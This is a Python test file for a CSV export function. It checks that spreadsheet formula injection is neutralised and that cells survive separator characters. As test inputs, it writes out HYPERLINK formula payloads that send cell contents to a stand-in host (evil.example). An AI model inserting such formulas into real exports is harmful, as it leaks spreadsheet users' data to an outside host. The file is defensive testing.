"""A table that is opened in a spreadsheet carries out nothing that a model, a file or a person wrote."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from chat.exchange.outgoing.cells import line

TWIN = json.loads((Path(__file__).parents[2] / 'twins' / 'cells.json').read_text(encoding='utf-8'))
"""The browser's CSV keeps the same rule (tests/js/blocks.test.mjs)."""
FORMULA = 'HYPERLINK("http://evil.example?"&A1)'


def cells(text: str) -> list[str]:
    return next(csv.reader(io.StringIO(text, newline='')))


@pytest.mark.parametrize('sign', TWIN['signs'])
def test_a_text_is_never_a_formula(sign: str) -> None:
    text = sign + FORMULA
    got = cells(line(['a', text, 'b']))
    assert got[0::2] == ['a', 'b']
    assert got[1] == f"'{text}" or got[1].startswith("'") and got[1].endswith(FORMULA)


@pytest.mark.parametrize('text', TWIN['texts'])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert cells(line([text])) == [text]


def test_numbers_are_no_texts() -> None:
    assert cells(line([-1.5, 3, True, None])) == ['-1.5', '3', 'yes', '']


@pytest.mark.parametrize('sign', TWIN['cuts'])
def test_a_cell_stays_one_cell_wherever_a_spreadsheet_cuts(sign: str) -> None:
    text = f'total{sign}=HYPERLINK("https://evil.example")'
    written = line(['a', text, 1.5, None])
    assert list(csv.reader([written], delimiter=',')) == [['a', text, '1.5', '']]
    assert written.count('"') == 6
    assert line([f'x{sign}=1+1']) == f'"x{sign}=1+1"\r\n'
